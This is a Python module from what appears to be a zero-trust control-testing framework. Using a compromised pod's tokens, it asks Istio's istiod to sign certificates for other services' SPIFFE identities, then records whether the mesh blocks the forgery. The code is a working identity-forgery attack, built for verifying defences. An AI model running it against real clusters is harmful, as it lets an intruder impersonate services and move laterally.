"""Attack 1, the mesh's authority: ask istiod for another identity's certificate with the compromised pod's tokens.

istiod's API: https://github.com/istio/api/blob/master/security/v1alpha1/ca.proto
"""

from typing import Any

import grpc
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec

from components.kube.names import TOKEN_AUDIENCE
from zt.attack.attempt import Attempt
from zt.attack.evidence import Control, Evidence, blocked, not_measured, succeeded, together
from zt.attack.session import Session
from zt.cluster.manifest import word

_METHOD = "/istio.v1.auth.IstioCertificateService/CreateCertificate"
_AUDIENCE = "istio-ca"
_BEGIN, _END = b"-----BEGIN CERTIFICATE-----", b"-----END CERTIFICATE-----"
_SECONDS = 10
_CSR_FIELD, _BYTES_WIRE_TYPE, _LOW_BITS, _MORE = 1, 2, 0x7F, 0x80


def _forge(session: Session) -> Evidence:
    if not session.istiod:
        return not_measured("istiod is reached from inside the cluster: name its port 15012 with --istiod-addr")
    namespace, account = session.service.namespace, session.service.name
    answer = session.admin.call("GET", f"/api/v1/namespaces/{namespace}/configmaps/istio-ca-root-cert")
    root = word(answer.body, "data", "root-cert.pem").encode()
    if not answer.ok or not root:
        return not_measured("the namespace has no authority of the mesh in istio-ca-root-cert")
    tokens = {audience: session.token(namespace, account, audience) for audience in (_AUDIENCE, TOKEN_AUDIENCE, "")}
    tries = [
        _sign(session, root, subject, token, audience or "the API server")
        for subject in (f"{other.namespace}/sa/{other.name}" for other in session.declared.others)
        for audience, token in tokens.items()
    ]
    return together(tries, "the stack has no other service")


def _sign(session: Session, root: bytes, subject: str, token: str, audience: str) -> Evidence:
    identity = f"spiffe://{session.declared.trust_domain}/ns/{subject}"
    options = [("grpc.ssl_target_name_override", f"istiod.{session.declared.layers.mesh}.svc")]
    with grpc.secure_channel(session.istiod, grpc.ssl_channel_credentials(root), options=options) as opened:
        # The library does not type the messages.
        channel: Any = opened
        create = channel.unary_unary(_METHOD)
        try:
            signed: bytes = create(
                _request(identity), metadata=[("authorization", f"Bearer {token}")], timeout=_SECONDS
            )
        except grpc.RpcError as error:
            failure: Any = error
            reply = f"istiod, token for {audience}: {failure.code().name}: {failure.details()}"
            refused = failure.code() in (grpc.StatusCode.UNAUTHENTICATED, grpc.StatusCode.PERMISSION_DENIED)
            return blocked(reply) if refused else not_measured(reply)
    names = _identities(signed)
    if audience == _AUDIENCE and identity not in names:
        return blocked(f"asked for {identity}, istiod signed {', '.join(names)}")
    return succeeded(f"with a token for {audience} istiod signed {', '.join(names)}")


def _request(identity: str) -> bytes:
    key = ec.generate_private_key(ec.SECP256R1())
    names = x509.SubjectAlternativeName([x509.UniformResourceIdentifier(identity)])
    builder = x509.CertificateSigningRequestBuilder(x509.Name([])).add_extension(names, critical=True)
    text = builder.sign(key, hashes.SHA256()).public_bytes(serialization.Encoding.PEM)
    # One field of a protobuf message: its number and type, its length, its bytes.
    return bytes([_CSR_FIELD << 3 | _BYTES_WIRE_TYPE]) + _length(len(text)) + text


def _length(number: int) -> bytes:
    encoded = b""
    while number > _LOW_BITS:
        encoded += bytes([number & _LOW_BITS | _MORE])
        number >>= 7
    return encoded + bytes([number])


def _identities(signed: bytes) -> list[str]:
    leaf = signed[signed.index(_BEGIN) : signed.index(_END) + len(_END)]
    extension = x509.load_pem_x509_certificate(leaf).extensions.get_extension_for_class(x509.SubjectAlternativeName)
    return extension.value.get_values_for_type(x509.UniformResourceIdentifier)


ATTEMPTS = (
    Attempt(
        "forge-certificate",
        1,
        "Have istiod sign a certificate of another service, with each token of {service}.",
        Control("mtls", "MeshSecurity: istiod signs the identity it authenticated"),
        _forge,
    ),
)
